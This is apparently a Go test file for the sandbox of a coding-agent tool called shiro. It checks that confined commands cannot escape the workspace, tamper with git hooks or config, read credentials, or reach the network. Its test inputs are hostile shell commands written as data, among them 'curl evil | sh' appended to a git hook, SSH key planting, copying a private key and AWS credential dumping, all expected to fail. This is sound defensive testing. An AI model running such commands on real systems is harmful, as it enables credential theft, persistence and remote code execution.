package sandbox_test

import (
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/shiro-neko/shiro/internal/sandbox"
)

func TestWorkspaceWriteWritesOnlyTheWorkspaceAndTemp(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	f.mustPass(t, `echo made > new.txt && mkdir -p build/out && echo o > build/out/o.txt && mv new.txt build/`)
	assertFile(t, filepath.Join(f.ws, "build", "new.txt"), "made\n")
	assertFile(t, filepath.Join(f.ws, "build", "out", "o.txt"), "o\n")
	// The temp folder is the session's own (see TestCommandsGetAPrivateTemp).
	f.mustPass(t, fmt.Sprintf(`echo scratch > %q`, filepath.Join(f.tmp, "scratch.txt")))
	if got, _ := filepath.Glob(filepath.Join(f.tmp, "shiro-sandbox-*", "scratch.txt")); len(got) != 1 {
		t.Errorf("a write to the temp folder did not land in the session's own: %v", got)
	}

	canary := filepath.Join(f.outside, "canary.txt")
	for _, attack := range []string{
		fmt.Sprintf(`echo pwned > %q`, canary),
		fmt.Sprintf(`rm -f %q`, canary),
		// mv copies what it cannot rename (the copy in the workspace is
		// fine: reading is allowed), but cannot remove the original.
		fmt.Sprintf(`mv %q %q`, canary, filepath.Join(f.ws, "stolen")),
		fmt.Sprintf(`touch %q`, filepath.Join(f.outside, "new")),
		fmt.Sprintf(`cd %q && ln -s /etc link`, f.outside),
		fmt.Sprintf(`echo 'alias ls=rm' >> %q`, filepath.Join(f.home, ".bashrc")),
		fmt.Sprintf(`echo ssh-ed25519 AAAA >> %q`, filepath.Join(f.home, ".ssh", "authorized_keys")),
	} {
		f.mustFail(t, attack)
	}
	assertFile(t, canary, canaryBody)
	assertMissing(t, filepath.Join(f.outside, "new"))
	assertMissing(t, filepath.Join(f.outside, "link"))
	assertMissing(t, filepath.Join(f.home, ".bashrc"))
	assertMissing(t, filepath.Join(f.home, ".ssh", "authorized_keys"))
}

func TestGitHooksGitConfigAndShiroStayReadOnly(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	hook := filepath.Join(f.ws, ".git", "hooks", "pre-commit")
	for _, attack := range []string{
		`echo 'curl evil | sh' >> .git/hooks/pre-commit`,
		`echo '#!/bin/sh' > .git/hooks/post-checkout`,
		`rm -rf .git/hooks`,
		`mv .git/hooks .git/hooks.old`,
		`printf '[alias]\n\tst = !touch /tmp/x\n' >> .git/config`,
		`cp .git/config c && echo '[core] fsmonitor = x' >> c && mv c .git/config`,
		`mv .git .git-moved && mkdir -p .git/hooks`,
		`rm -rf .git`,
		`echo '{"permission":{"bash":"allow"}}' > .shiro/config.json`,
		`mkdir -p .shiro/hooks/pre_tool`,
		`mv .shiro .shiro-old`,
		`cd .. && mv ws ws-moved && mkdir -p ws/.git/hooks`,
	} {
		f.mustFail(t, attack)
	}
	assertFile(t, hook, hookBody)
	assertMissing(t, filepath.Join(f.ws, ".git", "hooks", "post-checkout"))
	assertFile(t, filepath.Join(f.ws, ".git", "config"), gitConfig)
	assertFile(t, filepath.Join(f.ws, ".shiro", "config.json"), projectConf)
	assertMissing(t, filepath.Join(f.ws, ".shiro", "hooks"))
	assertMissing(t, filepath.Join(f.ws, ".git-moved"))
	assertMissing(t, filepath.Join(f.ws, ".shiro-old"))

	// What git itself writes outside hooks and config still works: lock
	// files in .git, objects and refs, and the work tree.
	f.mustPass(t, `touch .git/index.lock && mv .git/index.lock .git/index && mkdir -p .git/objects/ab .git/refs/heads && echo x > .git/objects/ab/cd && echo more >> README.md`)
	assertFile(t, filepath.Join(f.ws, ".git", "objects", "ab", "cd"), "x\n")
	assertFile(t, filepath.Join(f.ws, "README.md"), "hello\nmore\n")
}

func TestAMissingHooksFolderIsCreatedReadOnly(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	if err := os.RemoveAll(filepath.Join(f.ws, ".git", "hooks")); err != nil {
		t.Fatal(err)
	}
	f.mustFail(t, `echo evil > .git/hooks/pre-commit`)
	assertMissing(t, filepath.Join(f.ws, ".git", "hooks", "pre-commit"))
}

func TestSecretsCanBeNeitherReadNorWritten(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	for _, attack := range []string{
		fmt.Sprintf(`cat %q`, filepath.Join(f.home, ".ssh", "id_ed25519")),
		fmt.Sprintf(`base64 < %q`, filepath.Join(f.home, ".aws", "credentials")),
		fmt.Sprintf(`cat %q`, filepath.Join(f.state, "config.json")),
		fmt.Sprintf(`cat %q`, filepath.Join(f.state, "hooks.json")),
		fmt.Sprintf(`cd %q && printf '{"plugins":["time"]}' > config.json`, f.state),
		fmt.Sprintf(`cp %q %q`, filepath.Join(f.home, ".ssh", "id_ed25519"), filepath.Join(f.ws, "key")),
	} {
		out := f.mustFail(t, attack)
		for _, secret := range []string{"secret-key-bytes", "aws-secret", "sk-test-secret"} {
			if strings.Contains(out, secret) {
				t.Errorf("%q printed the secret %q:\n%s", attack, secret, out)
			}
		}
	}
	assertFile(t, filepath.Join(f.state, "config.json"), stateConf)
	assertMissing(t, filepath.Join(f.ws, "key"))
	// The rest of the home directory and the hooks' own copies stay
	// readable.
	out := f.mustPass(t, fmt.Sprintf(`cat %q && sh %q`, filepath.Join(f.home, "notes.txt"), filepath.Join(f.state, "hook-cache", "h1")))
	if !strings.Contains(out, "not a secret") || !strings.Contains(out, "from-hook-cache") {
		t.Errorf("readable files were not read:\n%s", out)
	}
}

func TestSecretsInsideTheWorkspaceAreHidden(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	// Running shiro in the home directory makes the home directory, and
	// shiro's own folder in it, part of the writable workspace.
	f.policy.Workspace = f.home
	sb := f.sandbox(t)
	for _, attack := range []string{
		`cat .ssh/id_ed25519`,
		`echo ssh-ed25519 AAAA >> .ssh/authorized_keys`,
		`cat .aws/credentials`,
		`cat .shiro-neko/config.json`,
		`printf '{"plugins":[]}' > .shiro-neko/config.json`,
		`mv .shiro-neko .shiro-neko-old`,
		`rm -rf .ssh`,
	} {
		res, out := runIn(t, sb, f.home, attack)
		if res.Exit.Success() {
			t.Errorf("%q succeeded; output:\n%s", attack, out)
		}
	}
	assertFile(t, filepath.Join(f.home, ".ssh", "id_ed25519"), sshKey)
	assertMissing(t, filepath.Join(f.home, ".ssh", "authorized_keys"))
	assertFile(t, filepath.Join(f.state, "config.json"), stateConf)
	if res, out := runIn(t, sb, f.home, `echo ok > notes.txt`); !res.Exit.Success() {
		t.Errorf("the workspace is not writable: %s", out)
	}
}

func TestNetworkIsOffUnlessSandboxNetwork(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	tcp, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer tcp.Close()
	udp, err := net.ListenPacket("udp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer udp.Close()
	tcpPort := tcp.Addr().(*net.TCPAddr).Port
	udpPort := udp.LocalAddr().(*net.UDPAddr).Port

	f.mustFail(t, fmt.Sprintf(`exec 3<>/dev/tcp/127.0.0.1/%d && echo sent >&3`, tcpPort))
	f.mustFail(t, fmt.Sprintf(`echo datagram > /dev/udp/127.0.0.1/%d`, udpPort))
	// Nothing reached either listener: a connection or a datagram would
	// be waiting by now, since the commands have ended.
	_ = tcp.(*net.TCPListener).SetDeadline(time.Now())
	if c, err := tcp.Accept(); err == nil {
		c.Close()
		t.Error("a sandboxed command connected to the loopback listener")
	}
	_ = udp.SetReadDeadline(time.Now())
	if n, _, err := udp.ReadFrom(make([]byte, 64)); err == nil {
		t.Errorf("a sandboxed command sent a %d-byte datagram", n)
	}

	f.policy.Network = true
	accepted := make(chan string, 1)
	_ = tcp.(*net.TCPListener).SetDeadline(time.Now().Add(testDeadline))
	go func() {
		c, err := tcp.Accept()
		if err != nil {
			accepted <- err.Error()
			return
		}
		defer c.Close()
		buf := make([]byte, 16)
		n, _ := c.Read(buf)
		accepted <- string(buf[:n])
	}()
	f.mustPass(t, fmt.Sprintf(`exec 3<>/dev/tcp/127.0.0.1/%d && echo sent >&3`, tcpPort))
	if got := <-accepted; got != "sent\n" {
		t.Errorf("with sandbox.network the listener got %q", got)
	}
}

func TestReadOnlyModeWritesNothing(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	f.policy.Mode = sandbox.ReadOnly
	f.mustFail(t, `echo x > new.txt`)
	f.mustFail(t, `echo more >> README.md`)
	f.mustFail(t, fmt.Sprintf(`echo x > %q`, filepath.Join(f.tmp, "t")))
	f.mustFail(t, fmt.Sprintf(`cat %q`, filepath.Join(f.home, ".ssh", "id_ed25519")))
	assertMissing(t, filepath.Join(f.ws, "new.txt"))
	assertFile(t, filepath.Join(f.ws, "README.md"), "hello\n")
	out := f.mustPass(t, `cat README.md && echo quiet > /dev/null`)
	if !strings.Contains(out, "hello") {
		t.Errorf("read-only mode could not read the workspace:\n%s", out)
	}
}

func TestOffRunsUnconfined(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	f.policy.Mode = sandbox.Off
	canary := filepath.Join(f.outside, "canary.txt")
	out := f.mustPass(t, fmt.Sprintf(`echo changed > %q && cat %q`, canary, filepath.Join(f.home, ".ssh", "id_ed25519")))
	assertFile(t, canary, "changed\n")
	if !strings.Contains(out, "secret-key-bytes") {
		t.Errorf("mode off could not read a file:\n%s", out)
	}
}

func TestADeniedCommandSaysHowToAllowIt(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	target := filepath.Join(f.outside, "cache", "x")
	res, out := f.run(t, fmt.Sprintf(`mkdir -p %q`, filepath.Dir(target)))
	if res.Exit.Success() {
		t.Fatalf("writing outside succeeded:\n%s", out)
	}
	if !strings.Contains(res.Confinement, "may have been denied") || !strings.Contains(res.Confinement, "sandbox.writable") ||
		!strings.Contains(res.Confinement, f.policy.ConfigFile) {
		t.Errorf("Result.Confinement = %q", res.Confinement)
	}
	if !strings.HasSuffix(out, res.Confinement+"\n") {
		t.Errorf("the hint was not appended to the output:\n%s", out)
	}

	res, out = f.run(t, `echo x >> .git/config`)
	if !strings.Contains(res.Confinement, "stay read-only") {
		t.Errorf("protected path: Result.Confinement = %q; output:\n%s", res.Confinement, out)
	}

	// A failure that has nothing to do with the sandbox gets no hint.
	res, out = f.run(t, `echo 'no such thing' >&2; exit 3`)
	if res.Confinement != "" || strings.Contains(out, "shiro sandbox") {
		t.Errorf("an ordinary failure was blamed on the sandbox: %q\n%s", res.Confinement, out)
	}
}

func TestWritablePathsAreWritable(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	cache := filepath.Join(f.outside, "cache")
	if err := os.Mkdir(cache, 0o755); err != nil {
		t.Fatal(err)
	}
	f.policy.Writable = []string{cache, filepath.Join(f.outside, "missing")}
	sb := f.sandbox(t)
	if notes := sb.Notes(); len(notes) != 1 || !strings.Contains(notes[0], "missing") {
		t.Errorf("notes %q, want one about the missing path", notes)
	}
	if res, out := runIn(t, sb, f.ws, fmt.Sprintf(`echo c > %q`, filepath.Join(cache, "c"))); !res.Exit.Success() {
		t.Errorf("sandbox.writable path not writable: %s", out)
	}
	assertFile(t, filepath.Join(cache, "c"), "c\n")
	if res, _ := runIn(t, sb, f.ws, fmt.Sprintf(`echo pwned > %q`, filepath.Join(f.outside, "canary.txt"))); res.Exit.Success() {
		t.Error("a path next to a writable one became writable")
	}
}

func TestStatusSaysWhatIsEnforced(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	st := f.sandbox(t).Status()
	text := st.String()
	if !st.Confined || !strings.Contains(st.Enforcement, "Landlock ABI") {
		t.Errorf("status %+v", st)
	}
	for _, want := range []string{"workspace-write", f.ws, f.tmp, "~/.ssh", "~/.aws", "~/.shiro-neko/config.json", "~/.shiro-neko/hooks.json", "network:", "supervisor"} {
		if !strings.Contains(text, want) {
			t.Errorf("status lacks %q:\n%s", want, text)
		}
	}
	if strings.Contains(text, "hook-cache") {
		t.Errorf("status lists a readable entry of shiro's folder as secret:\n%s", text)
	}
	f.policy.Mode = sandbox.Off
	if st := f.sandbox(t).Status(); st.Confined || !strings.Contains(st.String(), "off") {
		t.Errorf("mode off status %+v", st)
	}
}

// Confined, which the checkpoints ask after every turn that ran a
// command, gives Status's answer: confined in a confining mode whose
// helper runs, not in mode off nor where no helper answers the probe.
func TestConfinedAgreesWithStatus(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	broken := f.sandbox(t)
	broken.UseHelpers("/bin/false")
	for name, sb := range map[string]*sandbox.Sandbox{"workspace-write": f.sandbox(t), "no helper": broken} {
		if got, want := sb.Confined(), sb.Status().Confined; got != want || got != (name == "workspace-write") {
			t.Errorf("%s: Confined() = %t, Status().Confined = %t", name, got, want)
		}
	}
	f.policy.Mode = sandbox.Off
	if sb := f.sandbox(t); sb.Confined() || sb.Status().Confined {
		t.Errorf("mode off: Confined() = %t", sb.Confined())
	}
}

func TestNewRejectsAMissingWorkspace(t *testing.T) {
	t.Parallel()
	_, err := sandbox.New(sandbox.Policy{Workspace: filepath.Join(t.TempDir(), "nope")})
	if err == nil || !errors.Is(err, os.ErrNotExist) {
		t.Errorf("New with a missing workspace: %v", err)
	}
}
